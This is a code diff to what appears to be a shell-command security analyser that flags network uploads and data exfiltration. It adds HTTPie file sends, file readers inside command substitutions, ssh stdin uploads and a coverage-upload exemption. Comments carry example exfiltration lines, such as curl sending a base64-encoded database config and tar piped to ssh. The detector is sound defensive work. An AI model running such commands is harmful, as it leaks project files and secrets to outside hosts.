@@ -10,6 +10,7 @@ const FETCHERS = new Set([
   'http',
   'https',
   'xh',
+  'xhs',
   'aria2c',
   'fetch',
   'lwp-request',
@@ -226,6 +227,100 @@ function uploadedFiles(cmd: ShellCommand): string[] {
   return files;
 }
 
+/** Programs that put a whole file's content (or its start or end) on their output. */
+const FILE_READERS = new Set([
+  'cat',
+  'tac',
+  'head',
+  'tail',
+  'base64',
+  'base32',
+  'basenc',
+  'xxd',
+  'od',
+  'hexdump',
+  'gzip',
+  'bzip2',
+  'xz',
+  'zstd',
+  'brotli',
+  'tar',
+  'zip',
+  'openssl',
+  'uuencode',
+]);
+/** One-line files that name a version or revision: their content in a URL is a path, not data. */
+const VERSION_FILE =
+  /(?:^|\/)(?:VERSION|\.?version|\.nvmrc|\.node-version|\.python-version|\.ruby-version|\.tool-versions|REVISION|\.git\/HEAD)$/i;
+
+/**
+ * Whether an operand of a file reader names what it reads: a path (with `.` or `/`), or any operand
+ * of an archiver, which reads folders named bare (`tar cz config`), except tar's old-style mode word.
+ */
+function readOperand(c: ShellCommand, a: string, i: number): boolean {
+  if (/[./]/.test(a)) return true;
+  if (c.name === 'tar') return !(i === 0 && /^[A-Za-z]+$/.test(a) && /[crux]/.test(a));
+  return c.name === 'zip' && i > 0;
+}
+
+/** HTTPie request items that send a file: `field@path` (form mode), `field=@path`, `field:=@path`. */
+function httpieFiles(cmd: ShellCommand): string[] {
+  if (!['http', 'https', 'xh', 'xhs'].includes(cmd.name)) return [];
+  const form = cmd.argv.some((a) => a === '--form' || a === '-f' || a === '--multipart');
+  const files: string[] = [];
+  for (const a of cmd.argv.slice(1)) {
+    const m = /^[\w.[\]-]{1,128}(:?=)?@(.+)$/.exec(a);
+    if (m?.[2] !== undefined && (m[1] !== undefined || form)) files.push(m[2].replace(/;.*$/, ''));
+  }
+  return files;
+}
+
+/**
+ * Files whose content a `$(...)` in one of this command's arguments puts there
+ * (`curl "https://h/?d=$(base64 -w0 config/database.yml)"`): the call carries that file.
+ */
+function substitutedFiles(cmd: ShellCommand, all: ShellAnalysis): string[] {
+  const words = cmd.argv.slice(1).filter((a) => a.includes('$(') || a.includes('`'));
+  if (words.length === 0) return [];
+  const files: string[] = [];
+  for (const c of all.commands) {
+    if (!c.substitution || !FILE_READERS.has(c.name)) continue;
+    if (!words.some((w) => c.argv.every((x) => w.includes(x)))) continue;
+    const read = [
+      ...c.argv.slice(1).filter((a, i) => !a.startsWith('-') && readOperand(c, a, i)),
+      ...c.redirects.filter((r) => r.op === '<').map((r) => r.target),
+    ];
+    files.push(...read.filter((f) => !VERSION_FILE.test(f)));
+  }
+  return files;
+}
+
+/** The coverage services' upload hosts (codecov, coveralls). */
+const COVERAGE_HOST = /^(?:(?:[\w-]+\.)*codecov\.io|(?:[\w-]+\.)*coveralls\.io)$/;
+/** Coverage reports as the tools write them (lcov, Cobertura, Clover, JaCoCo, coverage.py, Go, Istanbul). */
+const COVERAGE_REPORT =
+  /^(?:\.\/)?(?:[\w.-]+\/)*(?:lcov\.info|[\w.-]*\.lcov|coverage[\w.-]*\.(?:xml|json|info|out|txt)|cobertura[\w.-]*\.xml|clover\.xml|jacoco[\w.-]*\.xml|coverage-final\.json)$/;
+
+/**
+ * A coverage report sent to a coverage service (codecov, coveralls) as their uploaders do: every
+ * host reached is the service, every file sent is a coverage report by name and nothing else of
+ * the script is substituted in. Ordinary CI work, not an upload of project data.
+ */
+function coverageUpload(
+  hosts: ReadonlySet<string>,
+  files: readonly string[],
+  cmd: ShellCommand,
+  all: ShellAnalysis,
+): boolean {
+  return (
+    hosts.size > 0 &&
+    [...hosts].every((h) => COVERAGE_HOST.test(h)) &&
+    files.every((f) => COVERAGE_REPORT.test(f)) &&
+    substitutedFiles(cmd, all).length === 0 &&
+    !cmd.argv.some((a) => a.includes('$(') || a.includes('`'))
+  );
+}
+
 export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit[] {
   const hits: IntentHit[] = [];
   if (readsProgramFromStdin(cmd) || runsSubstitution(cmd)) {
@@ -278,7 +373,9 @@ export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit
       detail: `${cmd.name} reaches ${[...hosts].join(', ')}`,
       hosts: [...hosts],
     });
-  const files = FETCHERS.has(cmd.name) ? uploadedFiles(cmd) : [];
+  const files = FETCHERS.has(cmd.name)
+    ? [...uploadedFiles(cmd), ...httpieFiles(cmd), ...substitutedFiles(cmd, all)]
+    : [];
   const scpUp =
     scpLike &&
     operands.length > 1 &&
@@ -289,14 +386,22 @@ export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit
   const feeders = earlierStages(cmd, all).filter(
     (c) => !(cmd.name === 'openssl' && ['echo', 'printf', 'true'].includes(c.name)),
   );
+  // ... and HTTPie, which sends its standard input as the body, and ssh, whose remote command (or
+  // shell) reads it: `tar czf - . | ssh HOST 'cat > x'` uploads to HOST
+  const fed =
+    cmd.redirects.some((r) => r.op === '<' && r.target !== '/dev/null') || feeders.length > 0;
   const ncUp =
-    RAW_NET.has(cmd.name) &&
-    (cmd.redirects.some((r) => r.op === '<' && r.target !== '/dev/null') || feeders.length > 0);
+    fed &&
+    (RAW_NET.has(cmd.name) ||
+      cmd.name === 'ssh' ||
+      (['http', 'https', 'xh', 'xhs'].includes(cmd.name) && !cmd.argv.includes('--ignore-stdin')));
+  const coverage = files.length > 0 && coverageUpload(hosts, files, cmd, all);
   if (
-    files.length > 0 ||
+    (files.length > 0 && !coverage) ||
     scpUp ||
     ncUp ||
     (FETCHERS.has(cmd.name) &&
+      !coverage &&
       cmd.argv.some(
         (a, i) =>
           (a === '-X' || a === '--request') && /^(?:POST|PUT|PATCH)$/i.test(cmd.argv[i + 1] ?? ''),
